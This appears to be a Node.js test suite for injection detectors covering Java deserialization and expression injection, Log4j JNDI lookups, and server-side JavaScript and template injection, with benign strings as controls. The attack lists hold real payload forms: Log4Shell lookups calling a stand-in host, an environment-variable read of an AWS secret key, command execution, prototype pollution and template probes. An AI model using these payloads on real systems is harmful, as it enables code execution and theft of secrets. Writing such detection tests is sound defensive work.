import { test } from "node:test";
import assert from "node:assert/strict";
import { detectJava, detectLog4j } from "./java.js";
import { detectServerSideJs } from "./node.js";

const JAVA_ATTACKS = ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "%{(#_memberAccess['allowStaticMethodAccess']=true)}", "T(java.lang.Runtime).getRuntime().exec('id')", "java.lang.ProcessBuilder", "org.apache.commons.collections.functors.InvokerTransformer", "#{''.getClass().forName('java.lang.Runtime')}"];
const JAVA_BENIGN = ["I love Java and JavaScript", "java developer jobs", "coffee from the island of Java", "com.example.app", "Hello ${name}"];
const LOG4J_ATTACKS = ["${jndi:rmi://198.51.100.7/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}", "\\u0024{jndi:ldap://x/y}", "${env:AWS_SECRET_ACCESS_KEY}"];
const LOG4J_BENIGN = ["${name}", "costs $5 {approx}", "jndi lookup docs"];
const JS_ATTACKS = [
  "require('child_process').execSync('id')",
  "process.mainModule.require('fs')",
  "global['process']",
  "{\"__proto__\":{\"isAdmin\":true}}",
  "constructor[prototype][admin]",
  "_$$ND_FUNC$$_function(){require('fs')}()",
  "while(!0){}",
  "for(;;){}",
  "while (!!{}) x++",
  "{{7*191}}",
  "{{ ''.__class__.__mro__ }}",
  "<%= File.read('/etc/hosts') %>",
  "#{5*5}",
  "Kernel.exec('id')",
  "XyQkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7fSgp",
];
const JS_BENIGN = ["Hello {{name}}", "while you wait", "for (i = 0; i < 10; i++) sum += i", "while(false){}", "{{ total }}", "module 3 homework", "the constructor of the building", "prototype design review", "#{order}"];

for (const a of JAVA_ATTACKS) test(`Java injection detected: ${a}`, () => assert.equal(detectJava(a), true));
for (const b of JAVA_BENIGN) test(`Java benign: ${b}`, () => assert.equal(detectJava(b), false));
for (const a of LOG4J_ATTACKS) test(`Log4j lookup detected: ${a}`, () => assert.equal(detectLog4j(a), true));
for (const b of LOG4J_BENIGN) test(`Log4j benign: ${b}`, () => assert.equal(detectLog4j(b), false));
for (const a of JS_ATTACKS) test(`server-side JS / template injection detected: ${a}`, () => assert.equal(detectServerSideJs(a), true));
for (const b of JS_BENIGN) test(`server-side JS benign: ${b}`, () => assert.equal(detectServerSideJs(b), false));
